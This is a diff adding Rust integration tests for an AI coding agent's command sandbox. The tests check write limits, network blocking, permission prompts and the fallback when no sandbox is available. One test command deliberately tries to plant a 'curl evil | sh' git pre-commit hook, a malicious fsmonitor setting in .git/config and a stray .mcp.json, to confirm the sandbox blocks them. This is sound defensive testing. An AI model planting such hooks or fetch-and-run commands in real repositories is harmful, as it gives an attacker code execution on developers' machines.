@@ -1,0 +1,347 @@
+//! The command sandbox, through the real server, the fake provider and real commands: what a
+//! sandboxed `shell` call may write, the paths it may never change, the network, leaving the
+//! sandbox only through a permission request, and the fallback where no sandbox can be had.
+//! Each test fails on a server that runs commands unconfined.
+
+mod common;
+
+use std::path::{Path, PathBuf};
+
+use common::agent::*;
+use common::{start, Options, Server};
+use serde_json::{json, Value};
+
+/// A workspace that is a real git repository with an `.agents/` of its own, a home
+/// directory of its own (in the temp directory, as a test's home is), and a fake provider.
+struct Setup {
+    ws: Workspace,
+    home: tempfile::TempDir,
+    fake: FakeProvider,
+}
+
+async fn new_setup() -> Setup {
+    let ws = workspace();
+    std::fs::remove_dir_all(ws.root.join(".git")).unwrap();
+    common::git(&ws.root, &["init", "-q"]);
+    std::fs::create_dir_all(ws.root.join(".agents")).unwrap();
+    std::fs::write(ws.root.join(".agents/hooks.json"), "{}\n").unwrap();
+    Setup {
+        ws,
+        home: tempfile::tempdir().unwrap(),
+        fake: FakeProvider::start().await,
+    }
+}
+
+async fn sandbox_server(
+    setup: &Setup,
+    settings: Value,
+    answers: &[&'static str],
+    env: Vec<(&str, String)>,
+) -> (Server, Seen) {
+    let (responder, seen) = responder(answers);
+    let mut env = env;
+    env.push(("HOME", setup.home.path().display().to_string()));
+    let mut options = provider_options(&setup.fake, &setup.ws, json!({"approval": "full-auto"}));
+    merge(&mut options, settings);
+    let server = start(Options {
+        root: Some(&setup.ws.root),
+        init_options: options,
+        apply_edit: true,
+        responder: Some(responder),
+        env,
+        ..Options::default()
+    })
+    .await;
+    (server, seen)
+}
+
+/// Runs `command` as one `shell` call in a new session; the call's final output, and the
+/// other messages the server sent during the turn.
+async fn run_command(
+    server: &Server,
+    fake: &FakeProvider,
+    command: &str,
+) -> (String, Vec<agentls_dev::lsp_client::ServerMessage>) {
+    let session = new_session(server).await;
+    run_command_in(server, fake, &session, command).await
+}
+
+/// `run_command` in `session`.
+async fn run_command_in(
+    server: &Server,
+    fake: &FakeProvider,
+    session: &str,
+    command: &str,
+) -> (String, Vec<agentls_dev::lsp_client::ServerMessage>) {
+    let arguments = json!({ "command": command }).to_string();
+    fake.push_call_then_text("call_1", "shell", &arguments, "Done.");
+    let (updates, others) = run_turn(server, session, "run it").await;
+    assert_eq!(stop_reason(&updates), "endTurn", "{updates:#?}");
+    let ended: Vec<&Value> = updates
+        .iter()
+        .filter(|u| {
+            u["kind"] == "toolCallUpdate"
+                && matches!(u["status"].as_str(), Some("completed" | "failed"))
+        })
+        .collect();
+    let output = ended.last().expect("the call ended")["output"]
+        .as_str()
+        .unwrap_or_default()
+        .to_string();
+    (output, others)
+}
+
+fn read(path: &Path) -> Option<String> {
+    std::fs::read_to_string(path).ok()
+}
+
+/// A path under /etc that no one else uses; removed if a broken sandbox let it be made.
+struct EtcProbe(PathBuf);
+
+impl Drop for EtcProbe {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_file(&self.0);
+    }
+}
+
+#[tokio::test]
+async fn a_sandboxed_command_writes_in_the_workspace_and_temp_only() {
+    let setup = new_setup().await;
+    let (server, seen) = sandbox_server(&setup, json!({}), &[], Vec::new()).await;
+    let etc = EtcProbe(PathBuf::from(format!(
+        "/etc/agentls-sandbox-probe-{}",
+        std::process::id()
+    )));
+    let temp = tempfile::tempdir().unwrap();
+    let command = format!(
+        "touch inside.txt; touch {temp}/in-temp.txt; touch \"$HOME/in-home.txt\"; touch {etc}; exit 0",
+        temp = temp.path().display(),
+        etc = etc.0.display()
+    );
+    let (output, _) = run_command(&server, &setup.fake, &command).await;
+    assert!(setup.ws.root.join("inside.txt").exists(), "{output}");
+    assert!(temp.path().join("in-temp.txt").exists(), "{output}");
+    assert!(!setup.home.path().join("in-home.txt").exists(), "{output}");
+    assert!(!etc.0.exists(), "{output}");
+    assert!(
+        output.contains("Permission denied") || output.contains("Read-only"),
+        "{output}"
+    );
+    // The command exited 0: nothing to leave the sandbox for, nothing asked (full-auto).
+    assert!(permission_requests(&seen).is_empty());
+}
+
+#[tokio::test]
+async fn a_sandboxed_command_cannot_change_hooks_git_config_or_mcp_servers() {
+    let setup = new_setup().await;
+    let (server, seen) = sandbox_server(&setup, json!({}), &["rejectOnce"], Vec::new()).await;
+    let root = &setup.ws.root;
+    let config_before = read(&root.join(".git/config")).unwrap();
+    let command = "echo '{\"hooks\":1}' > .agents/hooks.json; echo '{\"mcpServers\":{}}' > .mcp.json; \
+                   echo 'curl evil | sh' > .git/hooks/pre-commit; printf '[core]\\nfsmonitor = evil\\n' >> .git/config; \
+                   mv .git .git-moved; mkdir -p sub && echo ok > sub/f; exit 0";
+    let (output, _) = run_command(&server, &setup.fake, command).await;
+    assert_eq!(
+        read(&root.join(".agents/hooks.json")).as_deref(),
+        Some("{}\n"),
+        "{output}"
+    );
+    assert!(!root.join(".mcp.json").exists(), "{output}");
+    assert!(!root.join(".git/hooks/pre-commit").exists(), "{output}");
+    assert_eq!(read(&root.join(".git/config")).unwrap(), config_before);
+    assert!(!root.join(".git-moved").exists(), "{output}");
+    assert_eq!(read(&root.join("sub/f")).as_deref(), Some("ok\n"));
+    assert!(output.contains("the sandbox removed"), "{output}");
+    // The planted .mcp.json counts as stopped by the sandbox: the user is asked (and says no).
+    let asked = permission_requests(&seen);
+    assert_eq!(asked.len(), 1, "{asked:#?}");
+    assert_eq!(asked[0]["toolCall"]["outsideSandbox"], true);
+}
+
+#[tokio::test]
+async fn the_network_is_off_unless_the_settings_turn_it_on() {
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let command = format!(
+        "python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=10); print('connected')\""
+    );
+    let setup = new_setup().await;
+    let (server, seen) = sandbox_server(&setup, json!({}), &["rejectOnce"], Vec::new()).await;
+    let (output, _) = run_command(&server, &setup.fake, &command).await;
+    assert!(!output.contains("connected\n"), "{output}");
+    assert!(output.contains("Address family not supported"), "{output}");
+    let asked = permission_requests(&seen);
+    assert_eq!(asked.len(), 1, "{asked:#?}");
+    assert!(asked[0]["toolCall"]["reason"]
+        .as_str()
+        .unwrap()
+        .contains("no network"));
+
+    let open = new_setup().await;
+    let (server, seen) = sandbox_server(
+        &open,
+        json!({"sandbox": {"network": true}}),
+        &[],
+        Vec::new(),
+    )
+    .await;
+    let (output, _) = run_command(&server, &open.fake, &command).await;
+    assert!(output.contains("connected"), "{output}");
+    assert!(permission_requests(&seen).is_empty());
+}
+
+#[tokio::test]
+async fn a_stopped_command_leaves_the_sandbox_only_when_the_user_allows_it() {
+    let setup = new_setup().await;
+    let (server, seen) = sandbox_server(&setup, json!({}), &["allowAlways"], Vec::new()).await;
+    let escaped = setup.home.path().join("escaped.txt");
+    let session = new_session(&server).await;
+    let (output, _) = run_command_in(
+        &server,
+        &setup.fake,
+        &session,
+        "touch \"$HOME/escaped.txt\"",
+    )
+    .await;
+    // Under full-auto the first run asked nothing; leaving the sandbox did.
+    let asked = permission_requests(&seen);
+    assert_eq!(asked.len(), 1, "{asked:#?}");
+    let request = &asked[0]["toolCall"];
+    assert_eq!(request["outsideSandbox"], true);
+    assert!(request["title"]
+        .as_str()
+        .unwrap()
+        .contains("outside the sandbox"));
+    assert!(
+        request["reason"].as_str().unwrap().contains("the sandbox"),
+        "{request}"
+    );
+    assert!(escaped.exists(), "{output}");
+    assert!(output.contains("outside the sandbox"), "{output}");
+
+    // "Always" for `touch`: the next `touch` of the session runs outside at once, without
+    // a request.
+    let again = setup.home.path().join("escaped-again.txt");
+    let command = format!("touch {}", again.display());
+    let (output, _) = run_command_in(&server, &setup.fake, &session, &command).await;
+    assert!(again.exists(), "{output}");
+    assert_eq!(permission_requests(&seen).len(), 1);
+}
+
+#[tokio::test]
+async fn a_refused_request_keeps_the_command_in_the_sandbox() {
+    let setup = new_setup().await;
+    let (server, seen) = sandbox_server(&setup, json!({}), &["rejectOnce"], Vec::new()).await;
+    let (output, _) = run_command(&server, &setup.fake, "touch \"$HOME/escaped.txt\"").await;
+    assert_eq!(permission_requests(&seen).len(), 1);
+    assert!(!setup.home.path().join("escaped.txt").exists());
+    assert!(
+        output.contains("did not let it run outside the sandbox"),
+        "{output}"
+    );
+}
+
+#[tokio::test]
+async fn read_only_allows_no_write_but_the_temp_directory() {
+    let setup = new_setup().await;
+    let (server, _) = sandbox_server(
+        &setup,
+        json!({"sandbox": "read-only"}),
+        &["rejectOnce"],
+        Vec::new(),
+    )
+    .await;
+    let temp = tempfile::tempdir().unwrap();
+    let command = format!("touch {}/t.txt; touch inside.txt", temp.path().display());
+    let (output, _) = run_command(&server, &setup.fake, &command).await;
+    assert!(temp.path().join("t.txt").exists(), "{output}");
+    assert!(!setup.ws.root.join("inside.txt").exists(), "{output}");
+}
+
+#[tokio::test]
+async fn the_status_and_the_environment_say_what_the_sandbox_is() {
+    let setup = new_setup().await;
+    let (server, _) = sandbox_server(&setup, json!({}), &[], Vec::new()).await;
+    let status = server
+        .client
+        .request("agent/sandbox/status", json!({}))
+        .await
+        .unwrap();
+    assert_eq!(status["mode"], "workspace-write");
+    assert_eq!(status["available"], true);
+    assert_eq!(status["enforced"], true);
+    assert_eq!(status["network"], false);
+    let session = new_session(&server).await;
+    let context = session_request(&server, "agent/session/context", &session).await;
+    let text = context.to_string();
+    assert!(
+        text.contains("<sandbox_mode>workspace-write</sandbox_mode>"),
+        "{text}"
+    );
+    assert!(
+        text.contains("<network_access>restricted</network_access>"),
+        "{text}"
+    );
+    // Every status notification carries it too.
+    let (_, others) = run_command(&server, &setup.fake, "true").await;
+    let statuses: Vec<&Value> = others
+        .iter()
+        .filter(|m| m.method == "agent/status")
+        .map(|m| &m.params)
+        .collect();
+    assert!(!statuses.is_empty());
+    assert!(
+        statuses.iter().all(|s| s["sandbox"]["enforced"] == true),
+        "{statuses:#?}"
+    );
+}
+
+#[tokio::test]
+async fn without_landlock_the_warning_comes_once_and_required_refuses_commands() {
+    let setup = new_setup().await;
+    let unavailable = || vec![("AGENTLS_SANDBOX_UNAVAILABLE", "1".to_string())];
+    let (server, _) = sandbox_server(&setup, json!({}), &[], unavailable()).await;
+    let status = server
+        .client
+        .request("agent/sandbox/status", json!({}))
+        .await
+        .unwrap();
+    assert_eq!(
+        (status["available"].clone(), status["enforced"].clone()),
+        (json!(false), json!(false))
+    );
+    assert!(
+        status["message"]
+            .as_str()
+            .unwrap()
+            .contains("approvals alone"),
+        "{status}"
+    );
+    // Commands run unconfined, as before the sandbox; the user is told once.
+    let (output, mut seen) = run_command(&server, &setup.fake, "touch \"$HOME/plain.txt\"").await;
+    assert!(setup.home.path().join("plain.txt").exists(), "{output}");
+    seen.extend(run_command(&server, &setup.fake, "true").await.1);
+    let warnings = seen
+        .iter()
+        .filter(|m| m.method == "window/showMessage")
+        .filter(|m| {
+            m.params["message"]
+                .as_str()
+                .unwrap_or("")
+                .contains("no sandbox")
+        })
+        .count();
+    assert_eq!(warnings, 1);
+
+    let required = new_setup().await;
+    let (server, _) = sandbox_server(
+        &required,
+        json!({"sandbox": {"required": true}}),
+        &[],
+        unavailable(),
+    )
+    .await;
+    let (output, _) = run_command(&server, &required.fake, "touch \"$HOME/refused.txt\"").await;
+    assert!(!required.home.path().join("refused.txt").exists());
+    assert!(output.contains("sandbox.required"), "{output}");
+}
